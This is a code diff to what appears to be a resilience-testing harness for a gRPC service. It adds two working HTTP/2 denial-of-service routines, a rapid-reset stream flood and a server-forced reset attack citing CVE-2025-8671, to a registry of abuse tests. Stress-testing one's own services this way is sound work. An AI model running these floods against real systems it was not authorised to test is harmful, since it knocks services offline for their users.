@@ -90,6 +90,62 @@ async def rapid_reset(target: Target) -> None:
     await _many(FLOODING_CONNECTIONS, lambda: _connected(target.grpc_port, use), target)
 
 
+async def reset_and_come_back(target: Target) -> None:
+    """Rapid reset, a settled connection each time, that is left as soon as it does not take everything at once."""
+    headers = wire.call_fields(SUBMIT, key=target.key)
+
+    async def use(writer: asyncio.StreamWriter, reader: asyncio.StreamReader) -> None:
+        reading = asyncio.ensure_future(_drain(reader))
+        writer.write(wire.opening() + wire.frame(wire.SETTINGS, wire.ACK, 0))
+        for first in itertools.count(1, 200):
+            streams = range(first, first + 200, 2)
+            writer.write(
+                b"".join(
+                    wire.frame(wire.HEADERS, wire.END_HEADERS, stream, headers)
+                    + wire.frame(wire.DATA, wire.END_STREAM, stream, wire.message(b""))
+                    + wire.reset(stream)
+                    for stream in streams
+                )
+            )
+            target.done["calls reset"] += len(streams)
+            try:
+                async with asyncio.timeout(0.05):
+                    await writer.drain()
+            except TimeoutError:
+                writer.transport.abort()
+                raise EOFError from None
+            await asyncio.sleep(0)
+            if reading.done():
+                raise EOFError
+
+    await _many(FLOODING_CONNECTIONS, lambda: _connected(target.grpc_port, use), target)
+
+
+async def made_to_reset(target: Target) -> None:
+    """Calls that the server must reset itself, by a frame that breaks the rules of their stream (CVE-2025-8671)."""
+    headers = wire.call_fields(SUBMIT, key=target.key)
+
+    async def use(writer: asyncio.StreamWriter, reader: asyncio.StreamReader) -> None:
+        reading = asyncio.ensure_future(_drain(reader))
+        writer.write(wire.opening() + wire.frame(wire.SETTINGS, wire.ACK, 0))
+        for first in itertools.count(1, 200):
+            streams = range(first, first + 200, 2)
+            writer.write(
+                b"".join(
+                    wire.frame(wire.HEADERS, wire.END_HEADERS, stream, headers)
+                    + wire.frame(wire.WINDOW_UPDATE, 0, stream, wire.NO_WINDOW)
+                    for stream in streams
+                )
+            )
+            target.done["calls to be reset"] += len(streams)
+            await writer.drain()
+            await asyncio.sleep(0)
+            if reading.done():
+                raise EOFError
+
+    await _many(FLOODING_CONNECTIONS, lambda: _connected(target.grpc_port, use), target)
+
+
 async def _flood(target: Target, key: str, payload: bytes, path: str = SUBMIT) -> None:
     """So many tiny calls outstanding on each connection at all times."""
     headers = wire.call_fields(path, key=key)
@@ -300,8 +356,9 @@ async def oversize_webhooks(target: Target) -> None:
 ABUSES: Final[dict[str, Callable[[Target], Coroutine[Any, Any, None]]]] = {
     abuse.__name__: abuse
     for abuse in (
-        rapid_reset, calls_without_a_key, calls_that_are_refused, calls_of_no_method, huge_metadata, idle_streams,
-        slow_writers, slow_readers, pings_and_settings, bad_signatures, oversize_webhooks,
+        rapid_reset, reset_and_come_back, made_to_reset, calls_without_a_key, calls_that_are_refused,
+        calls_of_no_method, huge_metadata, idle_streams, slow_writers,
+        slow_readers, pings_and_settings, bad_signatures, oversize_webhooks,
     )
 }  # fmt: skip
 
